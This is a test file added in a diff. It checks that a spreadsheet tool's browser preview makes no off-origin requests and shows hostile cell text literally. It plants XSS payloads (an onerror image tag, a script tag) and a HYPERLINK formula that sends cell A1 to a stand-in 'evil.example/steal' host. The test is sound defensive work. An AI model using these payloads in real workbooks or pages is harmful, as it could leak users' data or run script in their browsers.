@@ -1,0 +1,101 @@
+// Nothing leaks, nothing runs: the browser preview in Chromium, every request recorded through a full check and report,
+// and hostile cell text (markup, formulas) shown literally. Needs /usr/bin/chromium and build/preview.html.
+import ExcelJS from 'exceljs';
+import fs from 'node:fs';
+import path from 'node:path';
+import { chromium, type Browser, type Page } from 'playwright-core';
+import webpack from 'webpack';
+import { serveBuild, type BuildServer } from '../../scripts/serve-build';
+import { SAMPLE_PATH } from '../support/sample';
+
+const ROOT = path.resolve(__dirname, '..', '..');
+const BUILD = path.join(ROOT, 'build');
+const XSS = '<img src=x onerror=alert(1)>';
+const FORMULA = '=HYPERLINK("http://evil.example/steal?d="&A1,"点我")';
+
+function buildOnce(): Promise<void> {
+  if (fs.existsSync(path.join(BUILD, 'preview.html'))) return Promise.resolve();
+  const config = require(path.join(ROOT, 'webpack.config.js'))({}, { mode: 'production' }) as webpack.Configuration;
+  return new Promise((resolve, reject) => {
+    webpack({ ...config, context: ROOT }, (error, stats) => {
+      if (error) reject(error);
+      else if (stats?.hasErrors()) reject(new Error(stats.toString('errors-only')));
+      else resolve();
+    });
+  });
+}
+
+/** The sample with markup as the unit name and a formula-looking text in the score sheet's unit cell. */
+async function hostileSample(): Promise<string> {
+  const wb = new ExcelJS.Workbook();
+  await wb.xlsx.readFile(SAMPLE_PATH);
+  wb.getWorksheet('自评数据表')!.getCell('B2').value = XSS;
+  wb.getWorksheet('自评评分表')!.getCell('B2').value = FORMULA;
+  wb.getWorksheet('报告素材')!.getCell('B15').value = `<script>alert(2)</script>${XSS}`;
+  return Buffer.from(await wb.xlsx.writeBuffer()).toString('base64');
+}
+
+describe('browser preview: nothing leaves the page, cell text stays text', () => {
+  let server: BuildServer;
+  let browser: Browser;
+  let page: Page;
+  const requests: string[] = [];
+  const dialogs: string[] = [];
+  const problems: string[] = [];
+
+  beforeAll(async () => {
+    await buildOnce();
+    server = await serveBuild({ root: BUILD });
+    browser = await chromium.launch({
+      executablePath: '/usr/bin/chromium',
+      args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking', '--disable-component-update', '--disable-sync'],
+    });
+    page = await browser.newPage({ viewport: { width: 420, height: 900 }, locale: 'zh-CN', acceptDownloads: true });
+    page.on('request', (request) => requests.push(request.url()));
+    page.on('dialog', (dialog) => {
+      dialogs.push(dialog.message());
+      void dialog.dismiss();
+    });
+    page.on('pageerror', (error) => problems.push(error.message));
+    page.on('console', (message) => {
+      if (message.type() === 'error') problems.push(message.text());
+    });
+    // Record, never deliver: a request off the page's origin is aborted (and fails the test below).
+    await page.route(/^https?:\/\/(?!127\.0\.0\.1)/, (route) => route.abort());
+    await page.goto(`${server.url}/preview.html`);
+    await page.waitForFunction(() => (window as unknown as { __zipingHost?: { ready: Promise<unknown> } }).__zipingHost !== undefined);
+    await page.evaluate(async (bytes) => {
+      const host = (window as unknown as { __zipingHost: { ready: Promise<unknown>; loadWorkbook(b: string): Promise<void> } }).__zipingHost;
+      await host.ready;
+      await host.loadWorkbook(bytes);
+    }, await hostileSample());
+  }, 180_000);
+
+  afterAll(async () => {
+    await browser?.close();
+    await server?.close();
+  });
+
+  it('runs a full check and report, requesting nothing but its own origin', async () => {
+    await page.getByRole('button', { name: '检查', exact: true }).first().click();
+    await page.getByText(XSS).first().waitFor({ timeout: 20_000 });
+    await page.getByRole('tab', { name: '报告' }).click();
+    const download = page.waitForEvent('download', { timeout: 20_000 });
+    await page.getByRole('button', { name: '导出 Word' }).click();
+    expect((await download).suggestedFilename()).toMatch(/\.docx$/);
+
+    const origin = new URL(server.url).origin;
+    const foreign = requests.filter((url) => !url.startsWith(`${origin}/`) && !url.startsWith('blob:') && !url.startsWith('data:'));
+    expect(foreign).toEqual([]);
+    expect(requests.length).toBeGreaterThan(0);
+  });
+
+  it('shows markup and formulas from cells literally: no element is created, no script runs', async () => {
+    expect(dialogs).toEqual([]);
+    expect(await page.locator('img[src="x"]').count()).toBe(0);
+    expect(await page.locator('#root script').count()).toBe(0);
+    expect(await page.locator('a[href^="http://evil"]').count()).toBe(0);
+    expect(await page.getByText(XSS).count()).toBeGreaterThan(0);
+    expect(problems.filter((p) => /Content Security Policy|Refused to/i.test(p))).toEqual([]);
+  });
+});
